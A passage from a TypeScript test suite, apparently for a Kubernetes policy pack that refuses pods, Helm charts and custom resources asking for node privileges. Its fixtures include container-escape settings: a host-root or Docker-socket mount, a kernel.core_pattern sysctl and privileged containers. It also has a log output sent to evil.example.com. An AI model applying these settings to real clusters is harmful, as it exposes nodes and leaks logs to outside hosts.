    expect([patch.type, any(patch.props).metadata]).toEqual([
      "kubernetes:core/v1:NamespacePatch",
      { name: "kubesphere-system", labels: { "pod-security.kubernetes.io/enforce": "privileged" } },
    ]);
    const bad = mutated((s) => {
      any(one(s, "prod1-apps-namespace-commerce").props).metadata.labels["pod-security.kubernetes.io/enforce"] = "privileged";
    });
    expect(messages(bad, p())).toEqual([
      "prod1-apps-namespace-commerce: namespace commerce is labelled pod-security.kubernetes.io/enforce: privileged, which turns Pod Security baseline off there, but is not one of the privileged namespaces (kube-flannel, kubesphere-system); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (pod-privileges.privilegedNamespaces)",
    ]);
  });

  test("privileged: false and hostNetwork: false are not privileges", () => {
    const ok = mutated((s) => {
      const spec = podSpec(s, ORDER);
      spec.hostNetwork = false;
      spec.containers[0].securityContext = { privileged: false, allowPrivilegeEscalation: false };
    });
    expect(messages(ok, p())).toEqual([]);
  });
});

describe("pod-privileges (T11): charts by URL, charts never reviewed, values the plan does not show", () => {
  const p = () => podPrivileges("mandatory", cfg("pod-privileges"));
  const KPS_URL = "https://prometheus-community.github.io/helm-charts/kube-prometheus-stack-87.12.5.tgz";
  const release = (s: PolicyStack, name: string, props: Record<string, unknown>) =>
    s.resources.push({
      type: "kubernetes:helm.sh/v3:Release",
      name,
      urn: `urn:pulumi:prod1::platform::kubernetes:helm.sh/v3:Release::${name}`,
      props: { namespace: "commerce", name, values: {}, ...props },
    });
  const NOT_LISTED = `but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`;

  test("the charts outside CHART_PRIVILEGE_VALUES that prod1 installs are reviewed by name@version in the pack config", () => {
    expect(cfg("pod-privileges").reviewedCharts).toEqual(["kubelet-csr-approver@1.2.14", "ks-core@1.1.4", "skywalking-helm@4.7.0"]);
    expect(cfg("pod-privileges").unreadValuesReleases).toEqual([]);
    expect(messages(prod1, p())).toEqual([]);
  });

  test("kube-prometheus-stack named by its archive URL, values {}: node-exporter's default hostNetwork, hostPID and root mount are named", () => {
    const bad = mutated((s) => release(s, "metrics", { chart: KPS_URL }));
    expect(messages(bad, p())).toEqual([
      `metrics: commerce/metrics asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) ${NOT_LISTED}`,
    ]);
    // The archive's version is the one Helm installs, whatever `version` says.
    const other = mutated((s) => release(s, "metrics", { chart: KPS_URL.replace("87.12.5", "88.0.0"), version: "87.12.5" }));
    expect(messages(other, p())).toEqual([
      `metrics: commerce/metrics asks for the node (chart kube-prometheus-stack 88.0.0, whose privilege values the pack read at 87.12.5 only (CHART_PRIVILEGE_VALUES)) ${NOT_LISTED}`,
    ]);
  });

  test("a chart never reviewed (standalone prometheus-node-exporter, traefik) or a local chart is refused, naming the key to set; listed there, it is judged by its values", () => {
    const bad = mutated((s) => {
      release(s, "node-exporter", {
        chart: "prometheus-node-exporter",
        version: "4.55.1",
        repositoryOpts: { repo: "https://prometheus-community.github.io/helm-charts" },
      });
      release(s, "edge", { chart: "oci://ghcr.io/traefik/helm/traefik", version: "37.1.1" });
      release(s, "mine", { chart: "./charts/mine" });
      // An archive URL with a credential in it: named by scheme, host and file only (m-4).
      release(s, "leaky", { chart: "https://user:s3cret@evil.example/charts/leaky.tgz?token=abc" });
    });
    expect(messages(bad, p())).toEqual([
      `node-exporter: commerce/node-exporter asks for the node (chart prometheus-node-exporter 4.55.1, which the pack has not reviewed (neither CHART_PRIVILEGE_VALUES nor pod-privileges.reviewedCharts "prometheus-node-exporter@4.55.1"), so what its defaults render is unknown) ${NOT_LISTED}`,
      `edge: commerce/edge asks for the node (chart traefik 37.1.1, which the pack has not reviewed (neither CHART_PRIVILEGE_VALUES nor pod-privileges.reviewedCharts "traefik@37.1.1"), so what its defaults render is unknown) ${NOT_LISTED}`,
      `mine: commerce/mine asks for the node (local chart ./charts/mine, whose templates are whatever the checkout holds) ${NOT_LISTED}`,
      `leaky: commerce/leaky asks for the node (local chart https://evil.example/…/leaky.tgz (userinfo, query or fragment not shown), whose templates are whatever the checkout holds) ${NOT_LISTED}`,
    ]);
    const reviewed = podPrivileges("mandatory", {
      ...cfg("pod-privileges"),
      reviewedCharts: [...(cfg("pod-privileges").reviewedCharts as string[]), "traefik@37.1.1"],
    });
    expect(messages(bad, reviewed).filter((m) => m.startsWith("edge:"))).toEqual([]);
    const withHost = mutated((s) => release(s, "edge", { chart: "oci://ghcr.io/traefik/helm/traefik", version: "37.1.1", values: { hostNetwork: true } }));
    expect(messages(withHost, reviewed)).toEqual([`edge: commerce/edge asks for the node (hostNetwork) ${NOT_LISTED}`]);
  });

  test("kube-prometheus-stack with nodeExporter.enabled false renders no node-exporter: its defaults do not count", () => {
    const off = mutated((s) => release(s, "metrics", { chart: "kube-prometheus-stack", version: "87.12.5", values: { nodeExporter: { enabled: false } } }));
    expect(messages(off, p())).toEqual([]);
    const on = mutated((s) => release(s, "metrics", { chart: "kube-prometheus-stack", version: "87.12.5", values: { nodeExporter: { enabled: true } } }));
    expect(messages(on, p())).toHaveLength(1);
  });

  test('a nodeExporter.enabled that is not the bool false keeps node-exporter on, as Helm does (0, "", "false")', () => {
    // helm v3.21.4 pkg/chartutil/dependencies.go:58-64: a non-bool condition value is ignored and the subchart stays enabled;
    // helm template of kube-prometheus-stack 87.12.5 with nodeExporter.enabled "" renders the node-exporter DaemonSet.
    for (const enabled of [0, "", "false"]) {
      const v = mutated((s) => release(s, "metrics", { chart: "kube-prometheus-stack", version: "87.12.5", values: { nodeExporter: { enabled } } }));
      expect(messages(v, p())).toEqual([
        `metrics: commerce/metrics asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) ${NOT_LISTED}`,
      ]);
    }
  });

  test("the CSI chart renders its privileged node plugin whenever plugin.enabled, whichever driver is on: a second release with csi.disk.enabled false is refused", () => {
    const second = (values: Record<string, unknown>) =>
      mutated((s) =>
        release(s, "csi2", {
          chart: "alibaba-cloud-csi-driver",
          version: "1.36.2",
          repositoryOpts: { repo: "https://kubernetes-sigs.github.io/alibaba-cloud-csi-driver" },
          values,
        }),
      );
    expect(messages(second({ csi: { disk: { enabled: false }, nas: { enabled: true } } }), p())).toEqual([
      `csi2: commerce/csi2 asks for the node (plugin.enabled (chart default): a privileged node plugin with hostNetwork, hostPID, hostIPC) ${NOT_LISTED}`,
    ]);
    expect(messages(second({ plugin: { enabled: false } }), p())).toEqual([]);
  });

  test("a grant names the chart: logging/fluent-bit installing kube-prometheus-stack instead loses fluent-bit's grant", () => {
    const swapped = mutated((s) => {
      const fb = any(one(s, "prod1-logging-fluent-bit").props);
      Object.assign(fb, { chart: "kube-prometheus-stack", version: "87.12.5", values: {} });
    });
    expect(messages(swapped, p())).toEqual([
      `prod1-logging-fluent-bit: logging/fluent-bit asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) ${NOT_LISTED}`,
    ]);
    // fluent-bit named by its archive URL is still fluent-bit: granted, and its outputs still judged (T4).
    const byUrl = mutated((s) => {
      const fb = any(one(s, "prod1-logging-fluent-bit").props);
      fb.chart = "https://fluent.github.io/helm-charts/fluent-bit-0.57.9.tgz";
      fb.values.config.outputs = "[OUTPUT]\n    Name kafka\n    Brokers evil.example.com:9093\n";
    });
    expect(messages(byUrl, p())).toEqual([]);
    expect(messages(byUrl, credentialEndpoints("mandatory", cfg("credential-endpoints")))).toEqual([
      expect.stringMatching(/^prod1-logging-fluent-bit: fluent-bit output evil\.example\.com:9093 is not an allowed log store/),
    ]);
  });

  test("valueYamlFiles or a post-renderer is refused unless the release is granted in unreadValuesReleases", () => {
    const bad = mutated((s) => {
      any(one(s, "prod1-ingress-controller").props).valueYamlFiles = [{ path: "./values-override.yaml" }];
      any(one(s, "prod1-metrics-metrics-server").props).postrender = "./add-host-network.sh";
    });
    const why = (what: string) =>
      `sets ${what}, which hand the chart values or objects the plan does not show, so neither its privileges nor its Services can be judged; put them in values, or ${FIX} (pod-privileges.unreadValuesReleases)`;
    expect(messages(bad, p())).toEqual([
      `prod1-metrics-metrics-server: kube-system/metrics-server ${why("postrender")}`,
      `prod1-ingress-controller: ingress-nginx/ingress-nginx ${why("valueYamlFiles")}`,
    ]);
    const granted = podPrivileges("mandatory", { ...cfg("pod-privileges"), unreadValuesReleases: ["ingress-nginx/ingress-nginx"] });
    expect(messages(bad, granted).map((m) => m.split(":")[0])).toEqual(["prod1-metrics-metrics-server"]);
    // v4 Chart's postRenderer too; an empty list or empty value is nothing.
    const v4 = mutated((s) => {
      s.resources.push({
        type: "kubernetes:helm.sh/v4:Chart",
        name: "v4",
        urn: "urn:pulumi:prod1::platform::kubernetes:helm.sh/v4:Chart::v4",
        props: { namespace: "commerce", name: "v4", chart: "ks-core", version: "1.1.4", postRenderer: { command: "/bin/sed" }, valueYamlFiles: [] },
      });
      any(one(s, "prod1-ingress-controller").props).valueYamlFiles = [];
      any(one(s, "prod1-ingress-controller").props).postrender = "";
    });
    expect(messages(v4, p())).toEqual([`v4: commerce/v4 ${why("postRenderer")}`]);
  });
});

describe("pod-privileges (T11): every kind that carries pods, and PersistentVolumes on the node's disk", () => {
  const p = () => podPrivileges("mandatory", cfg("pod-privileges"));
  const add = (s: PolicyStack, type: string, name: string, props: Record<string, unknown>) =>
    s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { metadata: { name, namespace: "commerce" }, ...props } });
  const NOT_LISTED = `but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`;
  const pod = (extra: Record<string, unknown>) => ({ containers: [{ name: "c", image: "busybox" }], ...extra });

  test("a hostPath or local PersistentVolume is refused (a claim in any namespace mounts it); a CSI one passes; granted by PersistentVolume/<name>", () => {
    const bad = mutated((s) => {
      add(s, "kubernetes:core/v1:PersistentVolume", "root", { metadata: { name: "root" }, spec: { capacity: { storage: "1Gi" }, hostPath: { path: "/" } } });
      add(s, "kubernetes:core/v1:PersistentVolume", "disk", { metadata: { name: "disk" }, spec: { local: { path: "/var/lib/kubelet" } } });
      add(s, "kubernetes:core/v1:PersistentVolumePatch", "patched", { metadata: { name: "patched" }, spec: { hostPath: { path: "/etc" } } });
      add(s, "kubernetes:core/v1:PersistentVolume", "cloud", {
        metadata: { name: "cloud" },
        spec: { csi: { driver: "diskplugin.csi.alibabacloud.com", volumeHandle: "d-1" } },
      });
    });
    const CLAIM = "(a PersistentVolumeClaim in any namespace mounts the node's disk, which Pod Security baseline allows)";
    expect(messages(bad, p())).toEqual([
      `root: PersistentVolume/root asks for the node (spec.hostPath ${CLAIM}) ${NOT_LISTED}`,
      `disk: PersistentVolume/disk asks for the node (spec.local ${CLAIM}) ${NOT_LISTED}`,
      `patched: PersistentVolume/patched asks for the node (spec.hostPath ${CLAIM}) ${NOT_LISTED}`,
    ]);
    const granted = podPrivileges("mandatory", {
      ...cfg("pod-privileges"),
      privilegedWorkloads: [...(cfg("pod-privileges").privilegedWorkloads as string[]), "PersistentVolume/disk"],
    });
    expect(messages(bad, granted).map((m) => m.split(":")[0])).toEqual(["root", "patched"]);
  });

  test("ReplicationController, PodTemplate, each *Patch (a patch may set only hostPID) and a custom resource's pod template are walked", () => {
    const bad = mutated((s) => {
      add(s, "kubernetes:core/v1:ReplicationController", "rc", { spec: { template: { spec: pod({ hostNetwork: true }) } } });
      add(s, "kubernetes:core/v1:PodTemplate", "tpl", { template: { spec: pod({ hostIPC: true }) } });
      add(s, "kubernetes:apps/v1:DeploymentPatch", "dp", { spec: { template: { spec: { hostPID: true } } } });
      add(s, "kubernetes:core/v1:PodPatch", "pp", { spec: { volumes: [{ name: "r", hostPath: { path: "/" } }] } });
      add(s, "kubernetes:batch/v1:JobPatch", "jp", { spec: { template: { spec: { containers: [{ name: "c", securityContext: { privileged: true } }] } } } });
      add(s, "kubernetes:batch/v1:CronJobPatch", "cjp", { spec: { jobTemplate: { spec: { template: { spec: { hostNetwork: true } } } } } });
      add(s, "kubernetes:apps/v1:ReplicaSetPatch", "rsp", { spec: { template: { spec: { hostPID: true } } } });
      add(s, "kubernetes:apps/v1:StatefulSetPatch", "ssp", { spec: { template: { spec: { hostIPC: true } } } });
      add(s, "kubernetes:apps/v1:DaemonSetPatch", "dsp", { spec: { template: { spec: { hostNetwork: true } } } });
      add(s, "kubernetes:argoproj.io/v1alpha1:Rollout", "rollout", { spec: { template: { spec: pod({ hostPID: true }) } } });
      add(s, "kubernetes:example.com/v1:Runner", "runner", {
        spec: { pods: [{ podSpec: { containers: [{ name: "c", securityContext: { privileged: true } }] } }] },
      });
    });
    expect(messages(bad, p())).toEqual(
      [
        "rc: ReplicationController/commerce/rc asks for the node (template.spec.hostNetwork)",
        "tpl: PodTemplate/commerce/tpl asks for the node (template.spec.hostIPC)",
        "dp: Deployment/commerce/dp asks for the node (template.spec.hostPID)",
        "pp: Pod/commerce/pp asks for the node (spec.volumes[0].hostPath)",
        "jp: Job/commerce/jp asks for the node (template.spec.containers[0].securityContext.privileged)",
        "cjp: CronJob/commerce/cjp asks for the node (jobTemplate.spec.template.spec.hostNetwork)",
        "rsp: ReplicaSet/commerce/rsp asks for the node (template.spec.hostPID)",
        "ssp: StatefulSet/commerce/ssp asks for the node (template.spec.hostIPC)",
        "dsp: DaemonSet/commerce/dsp asks for the node (template.spec.hostNetwork)",
        "rollout: Rollout/commerce/rollout asks for the node (template.spec.hostPID)",
        "runner: Runner/commerce/runner asks for the node (pods[0].podSpec.containers[0].securityContext.privileged)",
      ].map((m) => `${m} ${NOT_LISTED}`),
    );
    // A custom resource without a pod spec is not a workload, whatever its keys.
    const cr = mutated((s) => add(s, "kubernetes:example.com/v1:Setting", "flags", { spec: { privileged: true } }));
    expect(messages(cr, p())).toEqual([]);
  });
});

describe("pod-privileges (T11): containers and pod specs of any shape in a custom resource (Tekton, Argo Workflows), issue #30", () => {
  const p = () => podPrivileges("mandatory", cfg("pod-privileges"));
  const add = (s: PolicyStack, type: string, name: string, spec: Record<string, unknown>) =>
    s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { metadata: { name, namespace: "commerce" }, spec } });
  const NOT_LISTED = `but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`;
  const IMG = "harbor.livemall.internal/commerce/build:1.0.0";

  // Shapes: Tekton Pipelines v1.15.0 pkg/apis/pipeline/v1/{task_types,container_types,taskrun_types,pipelinerun_types}.go,
  // v1beta1/stepaction_types.go and
  // pkg/apis/pipeline/pod/template.go; Argo Workflows v4.1.2 pkg/apis/workflow/v1alpha1/{workflow_types,cron_workflow_types,container_set_template_types}.go.
  test("Tekton: a privileged step, a stepTemplate over plain steps, a sidecar's capability, a privileged StepAction, a TaskRun's podTemplate hostNetwork, a PipelineRun's embedded task and hostPath", () => {
    const bad = mutated((s) => {
      add(s, "kubernetes:tekton.dev/v1:Task", "build", {
        steps: [
          { name: "fetch", image: IMG, script: "git clone ..." },
          { name: "docker", image: "docker:27", command: ["dockerd"], securityContext: { privileged: true } },
        ],
      });
      add(s, "kubernetes:tekton.dev/v1:ClusterTask", "all-steps", {
        stepTemplate: { securityContext: { privileged: true } },
        steps: [{ name: "one", image: IMG }],
        sidecars: [{ name: "net", image: IMG, securityContext: { capabilities: { add: ["NET_ADMIN"] } } }],
      });
      add(s, "kubernetes:tekton.dev/v1beta1:StepAction", "action", { image: IMG, script: "mount /dev/sda1 /mnt", securityContext: { privileged: true } });
      add(s, "kubernetes:tekton.dev/v1:TaskRun", "run", { taskRef: { name: "build" }, podTemplate: { hostNetwork: true } });
      add(s, "kubernetes:tekton.dev/v1:PipelineRun", "prun", {
        pipelineSpec: {
          tasks: [{ name: "t", taskSpec: { steps: [{ name: "s", image: IMG, workingDir: "/w", securityContext: { allowPrivilegeEscalation: true } }] } }],
        },
        taskRunTemplate: { podTemplate: { volumes: [{ name: "docker", hostPath: { path: "/var/run/docker.sock" } }] } },
      });
    });
    expect(messages(bad, p())).toEqual(
      [
        "build: Task/commerce/build asks for the node (steps[1].securityContext.privileged)",
        "all-steps: ClusterTask/commerce/all-steps asks for the node (sidecars[0].securityContext.capabilities.add[0]=NET_ADMIN, stepTemplate.securityContext.privileged)",
        "action: StepAction/commerce/action asks for the node (securityContext.privileged)",
        "run: TaskRun/commerce/run asks for the node (podTemplate.hostNetwork)",
        "prun: PipelineRun/commerce/prun asks for the node (pipelineSpec.tasks[0].taskSpec.steps[0].securityContext.allowPrivilegeEscalation, taskRunTemplate.podTemplate.volumes[0].hostPath)",
      ].map((m) => `${m} ${NOT_LISTED}`),
    );
  });

  test("Argo Workflows: a template's hostPath volume, podSpecPatch (workflow or template), hostNetwork, a script, an init container, a containerSet, a CronWorkflow's workflowSpec", () => {
    const bad = mutated((s) => {
      add(s, "kubernetes:argoproj.io/v1alpha1:Workflow", "wf", {
        entrypoint: "main",
        templates: [{ name: "main", container: { image: IMG, command: ["ls", "/host"] }, volumes: [{ name: "host", hostPath: { path: "/" } }] }],
      });
      add(s, "kubernetes:argoproj.io/v1alpha1:WorkflowTemplate", "patched", {
        podSpecPatch: '{"hostPID": true}',
        templates: [{ name: "main", container: { image: IMG, args: ["x"] }, podSpecPatch: "hostNetwork: true" }],
      });
      add(s, "kubernetes:argoproj.io/v1alpha1:ClusterWorkflowTemplate", "cwt", {
        hostNetwork: true,
        securityContext: { sysctls: [{ name: "kernel.core_pattern", value: "|/x" }] },
        templates: [
          { name: "s", script: { image: IMG, command: ["sh"], source: "id", securityContext: { privileged: true } } },
          {
            name: "i",
            initContainers: [{ name: "i", image: IMG, securityContext: { capabilities: { add: ["SYS_ADMIN"] } } }],
            container: { image: IMG, args: ["y"] },
          },
          { name: "set", containerSet: { containers: [{ name: "a", image: IMG, command: ["a"], securityContext: { procMount: "Unmasked" } }] } },
        ],
      });
      add(s, "kubernetes:argoproj.io/v1alpha1:CronWorkflow", "cron", {
        schedule: "0 * * * *",
        workflowSpec: {
          entrypoint: "m",
          templates: [
            { name: "m", sidecars: [{ name: "d", image: "docker:27-dind", securityContext: { privileged: true } }], container: { image: IMG, command: ["x"] } },
          ],
        },
      });
    });
    const PATCH = "(a pod spec patch, which can set any privilege and the pack does not read)";
    expect(messages(bad, p())).toEqual(
      [
        "wf: Workflow/commerce/wf asks for the node (templates[0].volumes[0].hostPath)",
        `patched: WorkflowTemplate/commerce/patched asks for the node (podSpecPatch ${PATCH}, templates[0].podSpecPatch ${PATCH})`,
        "cwt: ClusterWorkflowTemplate/commerce/cwt asks for the node (hostNetwork, securityContext.sysctls[0]=kernel.core_pattern, templates[0].script.securityContext.privileged, templates[1].initContainers[0].securityContext.capabilities.add[0]=SYS_ADMIN, templates[2].containerSet.containers[0].securityContext.procMount=Unmasked)",
        "cron: CronWorkflow/commerce/cron asks for the node (workflowSpec.templates[0].sidecars[0].securityContext.privileged)",
      ].map((m) => `${m} ${NOT_LISTED}`),
    );
    // A podSpecPatch is refused unless the workload itself is granted.
    const granted = podPrivileges("mandatory", {
      ...cfg("pod-privileges"),
      privilegedWorkloads: [...(cfg("pod-privileges").privilegedWorkloads as string[]), "WorkflowTemplate/commerce/patched"],
    });
    expect(messages(bad, granted).map((m) => m.split(":")[0])).toEqual(["wf", "cwt", "cron"]);
  });

  test("ordinary objects pass: a Tekton Task with plain steps, an Argo Workflow with a plain container, a custom resource with an image and no container field", () => {
    const ok = mutated((s) => {
      add(s, "kubernetes:tekton.dev/v1:Task", "plain", {
        params: [{ name: "revision", type: "string" }],
        steps: [
          { name: "build", image: IMG, script: "mvn -B package", computeResources: { requests: { cpu: "1" } }, securityContext: { runAsNonRoot: true } },
          { name: "push", image: IMG, command: ["crane"], args: ["push"], env: [{ name: "HOME", value: "/tekton/home" }] },
        ],
        volumes: [{ name: "cache", emptyDir: {} }],
      });
      add(s, "kubernetes:argoproj.io/v1alpha1:Workflow", "hello", {
        entrypoint: "main",
        securityContext: { runAsNonRoot: true, seccompProfile: { type: "RuntimeDefault" } },
        templates: [{ name: "main", container: { image: IMG, command: ["echo", "hello"], resources: { limits: { memory: "64Mi" } } } }],
      });
      add(s, "kubernetes:example.com/v1:Catalog", "catalog", { image: "harbor.livemall.internal/commerce/catalog:1", replicas: 2 });
    });
    expect(messages(ok, p())).toEqual([]);
  });

  test("objects another controller installs from (Flux HelmRelease and Kustomization, Argo CD Application, KubeSphere InstallPlan) are refused unless granted", () => {
    const bad = mutated((s) => {
      add(s, "kubernetes:helm.toolkit.fluxcd.io/v2:HelmRelease", "node-exporter", {
        chart: { spec: { chart: "prometheus-node-exporter", sourceRef: { kind: "HelmRepository", name: "prometheus-community" } } },
      });
      add(s, "kubernetes:argoproj.io/v1alpha1:Application", "shop", { source: { repoURL: "https://git.example/shop.git", path: "k8s" } });
      add(s, "kubernetes:kubesphere.io/v1alpha1:InstallPlan", "devops", { extension: { name: "devops", version: "1.1.1" } });
      add(s, "kubernetes:kustomize.toolkit.fluxcd.io/v1:Kustomization", "apps", { path: "./apps", sourceRef: { kind: "GitRepository", name: "apps" } });
    });
    const installs = (id: string, group: string) =>
      `${id.split("/").pop()}: ${id} has ${group}'s controller install what it names (a chart or manifests the plan does not hold), so the pack cannot judge its pods; declare them in the plan instead, or grant it: ${FIX} (pod-privileges.privilegedWorkloads)`;
    expect(messages(bad, p()).sort()).toEqual(
      [
        installs("HelmRelease/commerce/node-exporter", "helm.toolkit.fluxcd.io"),
        installs("Application/commerce/shop", "argoproj.io"),
        installs("InstallPlan/commerce/devops", "kubesphere.io"),
        installs("Kustomization/commerce/apps", "kustomize.toolkit.fluxcd.io"),
      ].sort(),
    );
    // Granted by Kind/namespace/name; another group's Application (app.k8s.io) is an ordinary object.
    const granted = podPrivileges("mandatory", {
      ...cfg("pod-privileges"),
      privilegedWorkloads: [...(cfg("pod-privileges").privilegedWorkloads as string[]), "Application/commerce/shop"],
    });
    const ok = mutated((s) => {
      add(s, "kubernetes:argoproj.io/v1alpha1:Application", "shop", { source: { repoURL: "https://git.example/shop.git", path: "k8s" } });
      add(s, "kubernetes:app.k8s.io/v1beta1:Application", "catalog", { selector: { matchLabels: { app: "catalog" } } });
    });
    expect(messages(ok, granted)).toEqual([]);
  });
});

describe("pod-privileges (T11): a value unknown during preview inside a list or under a chart's privilege value, issue #30", () => {
  const p = () => podPrivileges("mandatory", cfg("pod-privileges"));
  // What knownCopy (policies/rules/policy.ts) turns a value CrossGuard cannot read during preview into.
  const U = "(unknown during preview)";
  const NOT_LISTED = `but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`;

  test("an unknown volumes[0], capabilities.add[0], sysctls[0], container, port, hostPath under a volume, seccomp type: each named at its path", () => {
    const bad = mutated((s) => {
      const spec = podSpec(s, ORDER);
      spec.volumes = [U, { name: "h", hostPath: U }, ...(spec.volumes ?? [])];
      spec.containers[0].securityContext = { capabilities: { drop: ["ALL"], add: [U] }, seccompProfile: { type: U } };
      spec.containers[0].ports = [U];
      spec.securityContext = { sysctls: [U, { name: U, value: "1" }] };
      spec.initContainers = [...spec.initContainers, U];
    });
    const initIndex = podSpec(bad, ORDER).initContainers.length - 1;
    expect(messages(bad, p())).toEqual([
      `${ORDER}: Deployment/commerce/order-service asks for the node (` +
        [
          `template.spec.containers[0].ports[0] ${U}`,
          `template.spec.containers[0].securityContext.capabilities.add[0] ${U}`,
          `template.spec.containers[0].securityContext.seccompProfile.type ${U}`,
          `template.spec.initContainers[${initIndex}] ${U}`,
          `template.spec.securityContext.sysctls[0] ${U}`,
          `template.spec.securityContext.sysctls[1].name ${U}`,
          `template.spec.volumes[0] ${U}`,
          `template.spec.volumes[1].hostPath ${U}`,
        ].join(", ") +
        `) ${NOT_LISTED}`,
    ]);
  });

  test("an unknown value at a chart's privilege path or a map on its way is named (a grant covers only its own path); an unknown elsewhere in values passes", () => {
    const bad = mutated((s) => {
      const controller = any(one(s, "prod1-ingress-controller").props).values.controller;
      controller.image = U;
      any(one(s, "prod1-metrics-metrics-server").props).values = U;
      const kps = any(one(s, "prod1-monitoring-kube-prometheus-stack").props).values;
      kps["prometheus-node-exporter"] = U;
      kps.nodeExporter = { enabled: U };
    });
    expect(messages(bad, p()).map((m) => m.slice(0, m.indexOf(" but is not")))).toEqual([
      `prod1-metrics-metrics-server: kube-system/metrics-server asks for the node (values ${U})`,
      `prod1-monitoring-kube-prometheus-stack: monitoring/kube-prometheus-stack asks for the node (nodeExporter.enabled ${U}, prometheus-node-exporter ${U})`,
      `prod1-ingress-controller: ingress-nginx/ingress-nginx asks for the node (controller.image ${U})`,
    ]);
    // The granted path itself unknown is still only what the grant allows; a tag or a replica count unknown holds no privilege.
    const ok = mutated((s) => {
      any(one(s, "prod1-monitoring-kube-prometheus-stack").props).values["prometheus-node-exporter"] = { hostNetwork: U, hostPID: true };
      const controller = any(one(s, "prod1-ingress-controller").props).values.controller;
      controller.image = { ...controller.image, tag: U };
      controller.replicaCount = U;
    });
    expect(messages(ok, p())).toEqual([]);
  });

  test("a custom resource whose steps are unknown is a workload, and its steps are named; unknown valueYamlFiles is refused", () => {
    const bad = mutated((s) => {
      s.resources.push({
        type: "kubernetes:tekton.dev/v1:Task",
        name: "later",
        urn: "urn:pulumi:prod1::platform::kubernetes:tekton.dev/v1:Task::later",
        props: { metadata: { name: "later", namespace: "commerce" }, spec: { steps: U } },
      });
      any(one(s, "prod1-ingress-controller").props).valueYamlFiles = U;
    });
    expect(messages(bad, p())).toEqual([
      `prod1-ingress-controller: ingress-nginx/ingress-nginx sets valueYamlFiles, which hand the chart values or objects the plan does not show, so neither its privileges nor its Services can be judged; put them in values, or ${FIX} (pod-privileges.unreadValuesReleases)`,
      `later: Task/commerce/later asks for the node (steps ${U}) ${NOT_LISTED}`,
    ]);
  });
});

describe("pod-privileges (T11): review of issue #30, custom resources by shape", () => {
  const p = () => podPrivileges("mandatory", cfg("pod-privileges"));
  const add = (s: PolicyStack, type: string, name: string, spec: Record<string, unknown>) =>
    s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { metadata: { name, namespace: "commerce" }, spec } });
  const NOT_LISTED = `but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`;
  const U = "(unknown during preview)";

  test("a pod-level securityContext in a custom resource is a pod spec: a TaskRun podTemplate's sysctl, a Prometheus CR's sysctl", () => {
    const bad = mutated((s) => {
      add(s, "kubernetes:tekton.dev/v1:TaskRun", "run", {
        taskRef: { name: "build" },
        podTemplate: { securityContext: { sysctls: [{ name: "kernel.msgmax", value: "65536" }] } },
      });
      add(s, "kubernetes:monitoring.coreos.com/v1:Prometheus", "prom", {
        replicas: 1,
        securityContext: { runAsUser: 1000, sysctls: [{ name: "net.core.somaxconn", value: "4096" }] },
      });
      // A pod-level context with only baseline values is walked and passes.
      add(s, "kubernetes:monitoring.coreos.com/v1:Alertmanager", "am", { securityContext: { seccompProfile: { type: "RuntimeDefault" } } });
    });
    expect(messages(bad, p())).toEqual([
      `run: TaskRun/commerce/run asks for the node (podTemplate.securityContext.sysctls[0]=kernel.msgmax) ${NOT_LISTED}`,
      `prom: Prometheus/commerce/prom asks for the node (securityContext.sysctls[0]=net.core.somaxconn) ${NOT_LISTED}`,
    ]);
  });

  test("kube-prometheus-stack's Prometheus CR sysctls come from the release's values: prod1 sets none, and setting one is refused", () => {
    const KPS = "prod1-monitoring-kube-prometheus-stack";
    expect(JSON.stringify(one(prod1, KPS).props.values)).not.toContain("sysctls");
    const bad = mutated((s) => {
      const v = any(one(s, KPS).props).values;
      v.prometheus.prometheusSpec = { ...v.prometheus.prometheusSpec, securityContext: { sysctls: [{ name: "kernel.msgmax", value: "65536" }] } };
    });
    expect(messages(bad, p())).toEqual([
      `${KPS}: monitoring/kube-prometheus-stack asks for the node (prometheus.prometheusSpec.securityContext.sysctls[0]=kernel.msgmax) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`,
    ]);
  });

  test("a holder unknown during preview (containers, template) or an unknown element of a holder's list (steps[0], templates[0]) makes a workload and is named", () => {
    const bad = mutated((s) => {
      add(s, "kubernetes:tekton.dev/v1:Task", "later", { steps: [U] });
      add(s, "kubernetes:argoproj.io/v1alpha1:WorkflowTemplate", "tpl", { entrypoint: "main", templates: [U] });
      add(s, "kubernetes:example.com/v1:Runner", "runner", { containers: U });
      add(s, "kubernetes:example.com/v1:Pool", "pool", { template: U });
    });
    expect(messages(bad, p())).toEqual([
